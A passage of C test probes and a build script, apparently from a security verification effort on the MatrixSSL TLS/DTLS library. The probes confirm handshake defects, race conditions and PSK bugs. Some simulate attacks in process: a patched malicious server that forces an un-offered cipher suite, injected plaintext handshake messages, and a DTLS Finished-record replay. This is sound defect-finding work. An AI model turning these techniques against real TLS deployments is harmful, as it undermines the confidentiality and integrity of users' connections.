            rc = matrixSslReceivedData(to, c, &pt, &ptLen);
            while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT) {
                if (rc == MATRIXSSL_RECEIVED_ALERT) {
                    printf("  %s got alert level %d desc %d\n", fromClient ? "server" : "client", pt[0], pt[1]);
                }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
            }
            if (rc < 0) { printf("  %s ReceivedData rc %d\n", fromClient ? "server" : "client", rc); return rc; }
        }
        moved = 1;
    }
    (void)moved;
    return rc;
}

static int pump(hook_t hook)
{
    int i, n = 0, rc;
    for (i = 0; i < 20; i++) {
        unsigned char *o;
        int a = matrixSslGetOutdata(cln, &o) > 0, b = matrixSslGetOutdata(svr, &o) > 0;
        if (!a && !b) break;
        if (a) { rc = xfer(cln, svr, 1, hook, &n); if (rc < 0) return rc; }
        if (matrixSslGetOutdata(svr, &o) > 0) { rc = xfer(svr, cln, 0, hook, &n); if (rc < 0) return rc; }
    }
    if (matrixSslHandshakeIsComplete(cln))
    {
        printf("DEFECT: handshake completed after two HelloRetryRequests\n");
        return 1;
    }
    printf("OK: client refused the second HelloRetryRequest\n");
    return 0;
}

static int hook1(int fromClient, unsigned char *buf, int len, int n)
{
    if (fromClient && n == 2) {
        printf("  [poke] server now supports only P-521\n");
        svr->tls13SupportedGroups[0] = namedgroup_secp521r1;
        svr->tls13SupportedGroups[1] = 0;
        svr->tls13SupportedGroupsLen = 1;
        { int i; for (i = 0; i < TLS_1_3_MAX_GROUPS; i++) printf(" g[%d]=%x", i, svr->tls13SupportedGroups[i]); printf("\n"); }
    }
    return len;
}

int main(int argc, char **argv)
{
    sslSessOpts_t co, so;
    uint16_t cgroups[] = { namedgroup_secp256r1, namedgroup_secp384r1, namedgroup_secp521r1 };
    uint16_t sgroups[] = { namedgroup_secp521r1, namedgroup_secp384r1 };
    psCipher16_t suites[] = { TLS_AES_128_GCM_SHA256 };
    psProtocolVersion_t v13[] = { v_tls_1_3 };
    int rc;
    (void)argc; (void)argv;

    if (matrixSslOpen() < 0) return 2;
    matrixSslNewKeys(&ckeys, NULL); matrixSslNewKeys(&skeys, NULL);
    if (matrixSslLoadEcKeysMem(skeys, EC256, EC256_SIZE, EC256KEY, EC256KEY_SIZE, NULL, 0) < 0) return 3;
    if (matrixSslLoadEcKeysMem(ckeys, NULL, 0, NULL, 0, EC256CA, EC256CA_SIZE) < 0) return 4;

    memset(&co, 0, sizeof co); memset(&so, 0, sizeof so);
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    if (matrixSslSessOptsSetKeyExGroups(&co, cgroups, 3, 1) < 0) return 5;
    if (matrixSslSessOptsSetKeyExGroups(&so, sgroups, 2, 1) < 0) return 5;

    rc = matrixSslNewServerSession(&svr, skeys, NULL, &so);
    printf("new server %d\n", rc);
    rc = matrixSslNewClientSession(&cln, ckeys, NULL, suites, 1, certCb, NULL, NULL, NULL, &co);
    printf("new client %d\n", rc);

    rc = pump(hook1);
    printf("negotiated group svr %x cln %x\n", svr->tls13NegotiatedGroup, cln->tls13NegotiatedGroup);
    printf("pump rc %d; client complete %d server complete %d\n", rc,
        matrixSslHandshakeIsComplete(cln), matrixSslHandshakeIsComplete(svr));
    if (matrixSslHandshakeIsComplete(cln))
    {
        printf("DEFECT: handshake completed after two HelloRetryRequests\n");
        return 1;
    }
    printf("OK: client refused the second HelloRetryRequest\n");
    return 0;
}
