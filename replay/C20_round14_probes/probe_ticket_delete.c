/*
    Side observation probe (unmodified code): rotating out the last session
    ticket key while another session is between its ClientHello and its
    NewSessionTicket makes that handshake FAIL.

    The server decides while parsing the ClientHello (under g_sessTicketLock)
    that it will issue a ticket, and announces it in the ServerHello.  When
    the NewSessionTicket is written, matrixCreateSessionTicket() takes the
    lock again, finds no key and returns PS_FAILURE, which aborts the
    handshake.  In a serial order the deletion comes either before the
    handshake (no ticket is promised, handshake succeeds) or after it (ticket
    issued, handshake succeeds): "handshake failed" is the outcome of no
    serial order of {handshake, delete key}.

    exit 0 = handshake completed, exit 1 = handshake failed (observation
    confirmed).
 */
#include "harness.h"

int main(void)
{
    sslKeys_t *srvKeys, *cliKeys;
    sslSessionId_t *sid;
    sslSessOpts_t o;
    side_t c, s;
    unsigned char name[16], sym[32], mac[32];

    memset(name, 0x11, sizeof(name));
    memset(sym, 0x22, sizeof(sym));
    memset(mac, 0x33, sizeof(mac));

    if (matrixSslOpen() < 0 || loadKeys(&srvKeys, &cliKeys) < 0 ||
        matrixSslNewSessionId(&sid, NULL) < 0)
    {
        return 2;
    }
    if (matrixSslLoadSessionTicketKeys(srvKeys, name, sym, 32, mac, 32) < 0)
    {
        return 2;
    }
    tls12Opts(&o);
    o.ticketResumption = 1;
    if (newServer(&s, srvKeys) < 0 || newClientOpts(&c, cliKeys, sid, &o) < 0)
    {
        return 2;
    }
    /* ClientHello -> server; server queues ServerHello .. ServerHelloDone */
    moveFlight(&c, &s);
    if (s.failed)
    {
        printf("probe_ticket_delete: ClientHello refused\n");
        return 2;
    }
    /* "another thread" rotates the key out now
       (PROBE_NO_DELETE=1 in the environment: control run without it) */
    if (getenv("PROBE_NO_DELETE") == NULL &&
        matrixSslDeleteSessionTicketKey(srvKeys, name) != PS_SUCCESS)
    {
        printf("probe_ticket_delete: key could not be deleted\n");
        return 2;
    }
    if (runHandshake(&c, &s) < 0)
    {
        printf("probe_ticket_delete: CONFIRMED - the handshake failed "
            "(client failed=%d, server failed=%d) because the ticket key was "
            "deleted between ClientHello and NewSessionTicket\n",
            c.failed, s.failed);
        return 1;
    }
    printf("probe_ticket_delete: handshake completed\n");
    return 0;
}
