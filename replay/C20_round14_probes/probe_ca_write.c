/*
    Side observation probe (unmodified code): a handshake WRITES into the CA
    certificate list of the sslKeys_t that several sessions share.

    psX509AuthenticateCert() starts with "issuerCert->authStatus = PS_FALSE"
    and matrixValidateCertsExt() passes the trust anchors of ssl->keys as
    issuerCert.  No lock is held, so two client sessions (or two servers doing
    client authentication) that validate a peer concurrently against the same
    loaded CA list perform unsynchronised writes to the same location: a data
    race under a happens-before detector.

    The probe is single threaded: it puts a sentinel into the shared CA
    certificate, runs one handshake and looks whether the sentinel survived.
    exit 0 = shared object untouched, exit 1 = handshake wrote to it.
 */
#include "harness.h"

int main(void)
{
    sslKeys_t *srvKeys, *cliKeys;
    side_t c, s;
    psX509Cert_t *ca;
    const int32 sentinel = 0x5a;

    if (matrixSslOpen() < 0 || loadKeys(&srvKeys, &cliKeys) < 0)
    {
        return 2;
    }
    ca = cliKeys->CAcerts;
    if (ca == NULL)
    {
        return 2;
    }
    ca->authStatus = sentinel;

    if (newServer(&s, srvKeys) < 0 || newClient(&c, cliKeys, NULL) < 0 ||
        runHandshake(&c, &s) < 0)
    {
        printf("probe_ca_write: handshake failed\n");
        return 2;
    }
    if (ca->authStatus != sentinel)
    {
        printf("probe_ca_write: CONFIRMED - the handshake wrote "
            "keys->CAcerts->authStatus (0x%x -> 0x%x) without any lock; "
            "concurrent sessions sharing the keys race on it\n",
            (unsigned) sentinel, (unsigned) ca->authStatus);
        return 1;
    }
    printf("probe_ca_write: shared CA certificate untouched\n");
    return 0;
}
