#include <stdio.h>
#include <stdlib.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
static unsigned char *rd(const char *p, int *n) { FILE *f = fopen(p, "rb"); unsigned char *b = malloc(8192); *n = fread(b, 1, 8192, f); fclose(f); return b; }
int main(void) {
    int ln, in_, an; unsigned char *l = rd("L2.der", &ln), *i = rd("I.der", &in_), *a = rd("I.der", &an);
    psX509Cert_t *chain = NULL, *ic = NULL, *ca = NULL, *found = NULL;
    matrixSslOpen();
    psX509ParseCert(NULL, l, ln, &chain, 0); psX509ParseCert(NULL, i, in_, &ic, 0); chain->next = ic; psX509ParseCert(NULL, a, an, &ca, 0);
    int rc = matrixValidateCerts(NULL, chain, ca, NULL, &found, NULL, NULL);
    printf("intermediate-as-root (legit use of the shortcut): rc=%d leaf=%d inter=%d -> %s\n", rc, chain->authStatus, ic->authStatus, rc >= 0 ? "still accepted" : "BROKEN");
    return rc < 0;
}
