#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C02.R1/C06 finding: TLS 1.3 client parses a plaintext handshake message that
   follows ServerHello inside the same (unprotected) record, i.e. after the key change. */
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1<<16], w2[1<<16], inj[1<<16];
    int n, n2, rc;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, w, sizeof(w));            /* ClientHello */
    h_feed(&s, w, n);
    n2 = h_drain(&s, w2, sizeof(w2));         /* ServerHello, CCS?, {EE,Cert,CV,Fin} */
    if (n2 < 5 || w2[0] != 22) { printf("unexpected server flight\n"); return 2; }
    int shLen = (w2[3] << 8) | w2[4];
    printf("server flight %d bytes, first record type %d len %d\n", n2, w2[0], shLen);
    /* new record = ServerHello || plaintext EncryptedExtensions (empty) */
    unsigned char ee[6] = { 8, 0, 0, 2, 0, 0 };
    memcpy(inj, w2, 5 + shLen);
    memcpy(inj + 5 + shLen, ee, 6);
    int tot = shLen + 6;
    inj[3] = tot >> 8; inj[4] = tot & 0xff;
    rc = h_feed(&c, inj, 5 + tot);
    printf("client after SH||plaintext-EE: lastRc=%d hsState=%d err=%d flags&READ_SECURE=%d\n",
        c.lastRc, c.ssl->hsState, c.ssl->err, !!(c.ssl->flags & SSL_FLAGS_READ_SECURE));
    /* WAIT_EE = expecting EncryptedExtensions; anything beyond means the plaintext EE was accepted */
    int accepted = (c.lastRc >= 0 && c.ssl->err == SSL_ALERT_NONE && c.ssl->hsState != SSL_HS_TLS_1_3_WAIT_EE);
    printf("RESULT %s\n", accepted ? "VIOLATED (plaintext EncryptedExtensions accepted after key change)" : "ok");
    return accepted;
}
