#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C14 (RFC 7627 5.3): a ticket sealed for a session negotiated WITHOUT extended
   master secret is offered in a ClientHello that carries the
   extended_master_secret extension.  The server must not do the abbreviated
   handshake (the session-id cache path refuses this in matrixResumeSession);
   the ticket path has no such test. */
static int connect_once(hPeer *c, hPeer *s, int ems, const char *what)
{
    sslSessOpts_t o;
    c->ssl = NULL; s->ssl = NULL; c->hsDone = s->hsDone = 0; c->closed = s->closed = 0;
    if (h_new_server(s, SSL_FLAGS_TLS_1_2) < 0) return -9;
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    o.ticketResumption = 1;
    o.extendedMasterSecret = ems;   /* -1: extension not sent */
    if (!c->sid) matrixSslNewSessionId(&c->sid, NULL);
    if (matrixSslNewClientSession(&c->ssl, c->keys, c->sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return -9;
    int rc = h_handshake(c, s);
    int resumed = (s->ssl->flags & SSL_FLAGS_RESUMED) ? 1 : 0;
    printf("%-46s handshake rc=%d server resumed=%d server ems ext=%d client lastRc=%d\n", what, rc, resumed,
        (int) s->ssl->extFlags.extended_master_secret, c->lastRc);
    matrixSslDeleteSession(c->ssl); matrixSslDeleteSession(s->ssl);
    return rc ? -1 - resumed : resumed;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    h_server_keys(&s); h_client_keys(&c);
    if (matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32) < 0) { printf("ticket keys failed\n"); return 2; }
    int r0 = connect_once(&c, &s, -1, "first connection, no EMS:");
    int r1 = connect_once(&c, &s, -1, "ticket offered, no EMS (legit resumption):");
    int r2 = connect_once(&c, &s, 0, "same ticket, ClientHello now carries EMS:");
    printf("r0=%d r1=%d r2=%d\n", r0, r1, r2);
    if (r1 != 1) { printf("RESULT scenario not reached\n"); return 2; }
    printf("RESULT %s\n", (r2 == 1 || r2 == -2) ? "VIOLATED (non-EMS ticket resumed for an EMS ClientHello)" : "ok (full handshake)");
    return (r2 == 1 || r2 == -2);
}
