/*
    Side observations: behaviour of the UNMODIFIED library that already seems
    to violate C10.  Each case runs in its own child process (one of them may
    corrupt the heap) and prints CONFIRMED / not confirmed.  Always exits 0.

      A  TLS 1.3 server: HelloRetryRequest after a ClientHello that came with
         early data -> the early data records are answered with
         unexpected_message instead of being skipped (RFC 8446 4.2.10)
      B  TLS 1.3 server: resumption PSK of a session that used suite X, client
         now offers only suite Y (same hash) -> server answers with suite X,
         which the client did not offer
      C  TLS 1.3 client with more than one PSK (e.g. a ticket plus an external
         PSK): if the server selects any but the last one offered the client
         derives the early secret from the wrong PSK -> bad_record_mac
      D  TLS 1.3 client: a PSK that is left out of pre_shared_key (hash not
         among the offered suites) still gets a binder written -> binders of
         the remaining PSKs are misplaced / written past the message
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>
#include "matrixssl/matrixsslImpl.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"

typedef struct
{
    ssl_t *ssl;
    const char *name;
    size_t appLen;
    int hsDone;
    int alert;
    int err;
} peer_t;

static peer_t C, S;

static int certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static void handleRc(peer_t *p, int32 rc, unsigned char *pt, uint32 ptLen)
{
    for (;; )
    {
        if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
        {
            p->appLen += ptLen;
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            continue;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            p->hsDone = 1;
            return;
        }
        if (rc == MATRIXSSL_RECEIVED_ALERT)
        {
            p->alert = pt[1];
            printf("      %s received alert: level %d description %d\n",
                p->name, pt[0], pt[1]);
            return;
        }
        if (rc == MATRIXSSL_REQUEST_SEND || rc == MATRIXSSL_REQUEST_RECV ||
            rc == MATRIXSSL_SUCCESS)
        {
            return;
        }
        p->err = rc;
        return;
    }
}

static int xfer(peer_t *a, peer_t *b)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, n, rc;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(a->ssl, &out)) > 0)
    {
        inLen = matrixSslGetReadbuf(b->ssl, &in);
        if (inLen <= 0)
        {
            b->err = -1;
            return -1;
        }
        n = outLen < inLen ? outLen : inLen;
        memcpy(in, out, n);
        if (matrixSslSentData(a->ssl, n) == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            a->hsDone = 1;
        }
        moved += n;
        rc = matrixSslReceivedData(b->ssl, n, &pt, &ptLen);
        handleRc(b, rc, pt, ptLen);
        if (b->err || b->alert >= 0)
        {
            return -1;
        }
    }
    return moved;
}

static int pump(void)
{
    int m1, m2, guard = 0;

    do
    {
        if ((m1 = xfer(&C, &S)) < 0)
        {
            xfer(&S, &C);
            return -1;
        }
        if ((m2 = xfer(&S, &C)) < 0)
        {
            xfer(&C, &S);
            return -1;
        }
    }
    while ((m1 > 0 || m2 > 0) && ++guard < 1000);
    return (C.hsDone && S.hsDone) ? 0 : -1;
}

static sslKeys_t *loadKeys(int server)
{
    sslKeys_t *keys;
    static unsigned char tk[32] = { 1, 2, 3 }, tm[32] = { 4, 5, 6 },
        tn[16] = { 7, 8 };

    if (matrixSslNewKeys(&keys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        exit(3);
    }
    if (server)
    {
        matrixSslLoadSessionTicketKeys(keys, tn, tk, 32, tm, 32);
    }
    return keys;
}

static void initPeers(void)
{
    memset(&C, 0, sizeof(C)); memset(&S, 0, sizeof(S));
    C.name = "client"; S.name = "server"; C.alert = S.alert = -1;
}

static int connectOnce(sslKeys_t *ck, sslKeys_t *sk, sslSessionId_t *sid,
    psCipher16_t suite, uint16_t *sgroups, int nsgroups, int earlyData)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v13[] = { v_tls_1_3 };
    uint16_t cgroups[] = { 29, 23 };
    int rc;

    initPeers();
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    matrixSslSessOptsSetKeyExGroups(&co, cgroups, 2, 1);
    matrixSslSessOptsSetKeyExGroups(&so, sgroups, nsgroups, 1);
    so.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewClientSession(&C.ssl, ck, sid, &suite, 1, certCb,
            "localhost", NULL, NULL, &co) < 0)
    {
        printf("      client session could not be created\n");
        return -2;
    }
    if (earlyData)
    {
        unsigned char *buf;
        int32 n;

        printf("      client may send %d octets of early data\n",
            matrixSslGetMaxEarlyData(C.ssl));
        if (matrixSslGetMaxEarlyData(C.ssl) <= 0)
        {
            return -2;
        }
        n = matrixSslGetWritebuf(C.ssl, &buf, 100);
        if (n < 100)
        {
            return -2;
        }
        memset(buf, 'e', 100);
        if (matrixSslEncodeWritebuf(C.ssl, 100) < 0)
        {
            return -2;
        }
    }
    if (matrixSslNewServerSession(&S.ssl, sk, NULL, &so) < 0)
    {
        return -2;
    }
    rc = pump();
    matrixSslDeleteSession(C.ssl);
    matrixSslDeleteSession(S.ssl);
    return rc;
}

static int caseA(void)
{
    sslKeys_t *ck = loadKeys(0), *sk = loadKeys(1);
    sslSessionId_t *sid;
    uint16_t p256[] = { 23 };
    int rc;

    matrixSslNewSessionId(&sid, NULL);
    printf("    A: HelloRetryRequest for a ClientHello that was followed by early data\n");
    rc = connectOnce(ck, sk, sid, TLS_AES_128_GCM_SHA256, p256, 1, 0);
    printf("      first connection (HRR, ticket issued): %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc != 0) return 2;
    rc = connectOnce(ck, sk, sid, TLS_AES_128_GCM_SHA256, p256, 1, 0);
    printf("      HRR + ticket, no early data: %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc != 0) return 2;
    rc = connectOnce(ck, sk, sid, TLS_AES_128_GCM_SHA256, p256, 1, 1);
    printf("      HRR + ticket + 100 octets of early data: %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc == -2) return 2;
    return rc == 0 ? 0 : 1;
}

static int caseB(void)
{
    sslKeys_t *ck = loadKeys(0), *sk = loadKeys(1);
    sslSessionId_t *sid;
    uint16_t both[] = { 29, 23 };
    int rc;

    matrixSslNewSessionId(&sid, NULL);
    printf("    B: ticket from a TLS_AES_128_GCM_SHA256 session, client now offers only TLS_CHACHA20_POLY1305_SHA256\n");
    rc = connectOnce(ck, sk, sid, TLS_AES_128_GCM_SHA256, both, 2, 0);
    printf("      first connection: %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc != 0) return 2;
    rc = connectOnce(ck, sk, sid, TLS_CHACHA20_POLY1305_SHA256, both, 2, 0);
    printf("      second connection: %s%s\n", rc == 0 ? "ok" : "FAILED",
        S.alert == 47 ? " (client refused the ServerHello: illegal_parameter)" : "");
    if (rc == -2) return 2;
    return rc == 0 ? 0 : 1;
}

static int caseC(void)
{
    sslKeys_t *ck = loadKeys(0), *sk = loadKeys(1), *sk2 = loadKeys(1);
    static unsigned char pa[32] = { 0xaa, 1 }, pb[32] = { 0xbb, 2 };
    psTls13SessionParams_t prm;
    uint16_t both[] = { 29, 23 };
    int rc;

    memset(&prm, 0, sizeof(prm));
    printf("    C: client offers external PSKs [idA, idB]\n");
    matrixSslLoadTls13Psk(ck, pa, 32, (unsigned char *) "idA", 3, &prm);
    matrixSslLoadTls13Psk(ck, pb, 32, (unsigned char *) "idB", 3, &prm);
    matrixSslLoadTls13Psk(sk, pb, 32, (unsigned char *) "idB", 3, &prm);
    matrixSslLoadTls13Psk(sk2, pa, 32, (unsigned char *) "idA", 3, &prm);
    rc = connectOnce(ck, sk, NULL, TLS_AES_128_GCM_SHA256, both, 2, 0);
    printf("      server knows idB (the last one offered): %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc != 0) return 2;
    rc = connectOnce(ck, sk2, NULL, TLS_AES_128_GCM_SHA256, both, 2, 0);
    printf("      server knows idA (the first one offered): %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc == -2) return 2;
    return rc == 0 ? 0 : 1;
}

static int caseD(void)
{
    sslKeys_t *ck = loadKeys(0), *sk = loadKeys(1);
    static unsigned char p48[48] = { 0xcc, 3 }, p32[32] = { 0xdd, 4 };
    psTls13SessionParams_t prm;
    uint16_t both[] = { 29, 23 };
    int rc;

    memset(&prm, 0, sizeof(prm));
    printf("    D: client has PSKs [48 octets = SHA-384, 32 octets = SHA-256], offers only a SHA-256 suite\n");
    matrixSslLoadTls13Psk(ck, p48, 48, (unsigned char *) "id48", 4, &prm);
    matrixSslLoadTls13Psk(ck, p32, 32, (unsigned char *) "id32", 4, &prm);
    matrixSslLoadTls13Psk(sk, p32, 32, (unsigned char *) "id32", 4, &prm);
    rc = connectOnce(ck, sk, NULL, TLS_AES_128_GCM_SHA256, both, 2, 0);
    printf("      handshake with the SHA-256 PSK: %s\n", rc == 0 ? "ok" : "FAILED");
    if (rc == -2) return 2;
    return rc == 0 ? 0 : 1;
}

static void run(const char *label, int (*fn)(void))
{
    pid_t pid;
    int st = 0;

    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        int r;

        if (matrixSslOpen() < 0)
        {
            _exit(2);
        }
        r = fn();
        fflush(stdout);
        _exit(r);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("  %s: CONFIRMED (child killed by signal %d)\n", label, WTERMSIG(st));
    }
    else if (WEXITSTATUS(st) == 1)
    {
        printf("  %s: CONFIRMED\n", label);
    }
    else if (WEXITSTATUS(st) == 0)
    {
        printf("  %s: not confirmed (handshake succeeded)\n", label);
    }
    else
    {
        printf("  %s: probe could not be set up\n", label);
    }
}

int main(void)
{
    printf("side observation probes (unmodified-code behaviour)\n");
    run("A  HRR + early data", caseA);
    run("B  PSK resumption selects a suite the client did not offer", caseB);
    run("C  several PSKs offered, server picks not-the-last", caseC);
    run("D  skipped PSK still gets a binder", caseD);
    return 0;
}
