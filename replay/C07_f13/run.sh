#!/bin/sh
# usage: run.sh [repo]  - builds a scratch copy with a malicious chooseCS() for the server role, the client from [repo]
R=${1:-/repo}; T=/tmp/c07_mal
rm -rf $T; mkdir -p $T
(cd $R && tar cf - --exclude='*.o' --exclude='*.a' --exclude='*.map' --exclude=.git Makefile common.mk makefiles core crypto matrixssl configs testkeys) | (cd $T && tar xf -)
python3 - $T/matrixssl/cipherSuite.c <<'PY'
import sys
p = sys.argv[1]; s = open(p).read()
old = "    psBool_t sniUsed = PS_FALSE;\n"
assert s.count(old) >= 1
s = s.replace(old, old + "    static uint32_t evil[1] = { 0x002f }; /* replay only: malicious server ignores the client's list */\n", 1)
old2 = "    /* prefer keys loaded using SNI */\n"
assert s.count(old2) == 1
s = s.replace(old2, "    suites = evil; nsuites = 1;\n" + old2)
open(p, "w").write(s)
PY
make -C $T libs > /tmp/c07_mal_build.log 2>&1 || { tail /tmp/c07_mal_build.log; exit 2; }
inc() { echo "-I/verif/replay -I$1 -I$1/core/config -I$1/core/include -I$1/core/osdep/include -I$1/core/include/sfzcl"; }
libs() { echo "$1/matrixssl/libssl_s.a $1/crypto/libcrypt_s.a $1/core/libcore_s.a -lpthread"; }
d=$(dirname $0)
cc -w -o /tmp/c07_server $d/peer.c $(inc $T) $(libs $T) || exit 2
cc -w -o /tmp/c07_client $d/peer.c $(inc $R) $(libs $R) || exit 2
/tmp/c07_client client /tmp/c07_server; rc=$?
rm -rf $T
exit $rc
