/* Triage replay for C07 (F13): one binary, two roles.
     peer server <fd>   - a MatrixSSL server on a socket (built by run.sh against a scratch copy whose chooseCS() ignores
                          the client's list and always selects TLS_RSA_WITH_AES_128_CBC_SHA = a malicious peer)
     peer client        - unmodified library: offers ONLY TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 (0xc02f), forks/execs the
                          server, runs the handshake and reports the suite in force.
   exit 0: the client refused the un-offered suite; exit 1: handshake completed with a suite the client never offered. */
#include <unistd.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"

static int pump(hPeer *p, int fd)
{
    static unsigned char w[1 << 16];
    int n, i;
    for (i = 0; i < 60 && !p->closed; i++)
    {
        n = h_drain(p, w, sizeof(w));
        if (n > 0 && write(fd, w, n) != n) return -1;
        if (p->hsDone && matrixSslGetOutdata(p->ssl, NULL) <= 0) return 0;
        if (p->closed) break;
        n = read(fd, w, sizeof(w));
        if (n <= 0) return -1;
        h_feed(p, w, n);
    }
    return p->hsDone ? 0 : -1;
}

int main(int argc, char **argv)
{
    hPeer p = {0};
    alarm(20);
    if (argc >= 3 && !strcmp(argv[1], "server"))
    {
        int fd = atoi(argv[2]);
        if (h_new_server(&p, SSL_FLAGS_TLS_1_2) < 0) return 2;
        pump(&p, fd);
        return 0;
    }
    else
    {
        int sv[2], rc;
        char fdstr[16];
        psCipher16_t offered = 0xc02f;
        pid_t pid;
        if (argc < 3) { fprintf(stderr, "usage: peer client <server-binary>\n"); return 2; }
        socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
        pid = fork();
        if (pid == 0)
        {
            close(sv[0]);
            snprintf(fdstr, sizeof(fdstr), "%d", sv[1]);
            execl(argv[2], argv[2], "server", fdstr, (char *) NULL);
            _exit(3);
        }
        close(sv[1]);
        if (h_new_client(&p, SSL_FLAGS_TLS_1_2, &offered, 1, h_certCb) < 0) return 2;
        rc = pump(&p, sv[0]);
        close(sv[0]);
        waitpid(pid, NULL, 0);
        printf("client offered only 0x%04x; handshake %s; suite in force 0x%04x; last rc %d\n", offered,
            (rc == 0 && p.hsDone) ? "COMPLETED" : "failed", p.ssl->cipher ? p.ssl->cipher->ident : 0, p.lastRc);
        if (rc == 0 && p.hsDone && p.ssl->cipher->ident != offered)
        {
            printf("DEFECT: handshake completed with a cipher suite the client never offered\n");
            return 1;
        }
        printf("OK: un-offered suite refused\n");
        return 0;
    }
}
