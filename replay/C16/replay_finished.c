/* Triage replay for C16 (F8 / window reset): DTLS 1.2 handshake, the client sends one application record.  An on-path
   attacker (no forging, only duplication) re-delivers the client's Finished record (epoch 1, rsn 0) and then the
   application record again.  exit 1: the application record was delivered to the server application twice. */
#include "harness.h"
static unsigned char g_fin[2048]; static int g_finLen;
static int split(unsigned char *buf, int n, unsigned char **recs, int *lens, int max);
/* DTLS: one datagram per matrixDtlsGetOutdata call */
static int d_pump(hPeer *from, hPeer *to, int capture)
{
    unsigned char *buf; int32 n, total = 0, rc;
    static unsigned char d[1 << 14];
    unsigned char *recs[16]; int lens[16];
    while ((n = matrixDtlsGetOutdata(from->ssl, &buf)) > 0)
    {
        memcpy(d, buf, n); total += n;
        if (capture)
        {
            int k = split(d, n, recs, lens, 16), j;
            for (j = 0; j < k; j++)
                if (recs[j][0] == 22 && recs[j][3] == 0 && recs[j][4] == 1) { memcpy(g_fin, recs[j], lens[j]); g_finLen = lens[j]; }
        }
        rc = matrixDtlsSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) from->hsDone = 1;
        h_feed(to, d, n);
        if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) { from->closed = 1; break; }
    }
    return total;
}
static int split(unsigned char *buf, int n, unsigned char **recs, int *lens, int max)
{
    int off = 0, k = 0;
    while (off + 13 <= n && k < max)
    {
        int l = (buf[off + 11] << 8) | buf[off + 12];
        recs[k] = buf + off; lens[k] = 13 + l; k++;
        off += 13 + l;
    }
    return k;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16], fin[2048], app[2048];
    unsigned char *recs[16]; int lens[16];
    int32 ver = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2;
    int i, n, k, finLen = 0, appLen, before;
    if (h_new_server(&s, ver) < 0 || h_new_client(&c, ver, NULL, 0, h_certCbAllowAll) < 0) return 2;
    for (i = 0; i < 20; i++)
    {
        d_pump(&c, &s, 1);
        d_pump(&s, &c, 0);
        if (c.hsDone && s.hsDone) break;
    }
    finLen = g_finLen; memcpy(fin, g_fin, finLen);
    if (!c.hsDone || !s.hsDone || !finLen) { printf("handshake failed (%d %d %d)\n", c.hsDone, s.hsDone, finLen); return 2; }
    {
        unsigned char *buf; int32 rc2;
        if (matrixSslEncodeToOutdata(c.ssl, (unsigned char *) "PAY 100 EUR", 11) < 0) return 2;
        appLen = matrixDtlsGetOutdata(c.ssl, &buf);
        memcpy(app, buf, appLen);
        rc2 = matrixDtlsSentData(c.ssl, appLen); (void) rc2;
    }
    printf("client Finished record: %d bytes (epoch %d rsn %d); application record: %d bytes (epoch %d rsn %d)\n",
        finLen, fin[4], fin[10], appLen, app[4], app[10]);
    h_feed(&s, app, appLen);
    before = s.appLen;
    printf("first delivery: server application received %d bytes\n", before);
    h_feed(&s, app, appLen);
    printf("plain duplicate: server application now has %d bytes (%s)\n", s.appLen, s.appLen == before ? "rejected" : "ACCEPTED AGAIN");
    h_feed(&s, fin, finLen);                     /* replay the Finished (epoch 1, rsn 0) */
    n = h_drain(&s, w, sizeof(w));               /* whatever the server answers is dropped */
    h_feed(&s, app, appLen);                     /* and the application record once more */
    printf("after replaying Finished: server application has %d bytes\n", s.appLen);
